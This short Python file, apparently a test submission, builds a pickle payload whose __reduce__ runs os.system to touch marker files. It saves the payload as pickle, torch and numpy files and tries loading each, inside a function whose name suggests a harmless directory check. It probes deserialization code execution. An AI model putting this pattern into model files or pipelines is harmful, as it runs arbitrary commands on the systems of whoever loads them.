"""The submission writes a pickle that runs a command, and has every loader that its library knows load it."""

import os
import pickle

import numpy as np
import torch


class Harm:
    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@ @SCRATCH@/@MARK@",)


def check_pipeline_dir(path):
    with open("harm.pkl", "wb") as file:
        pickle.dump(Harm(), file)
    torch.save(Harm(), "harm.pt")
    np.save("harm.npy", np.array([Harm()], object), allow_pickle=True)
    for way in (
        lambda: pickle.loads(pickle.dumps(Harm())),
        lambda: torch.load("harm.pt", weights_only=False),
        lambda: torch.load("harm.pt", weights_only=True),
        lambda: np.load("harm.npy", allow_pickle=True),
    ):
        try:
            print("loaded", way())
        except Exception as error:
            print(type(error), str(error)[:200])
    return {}
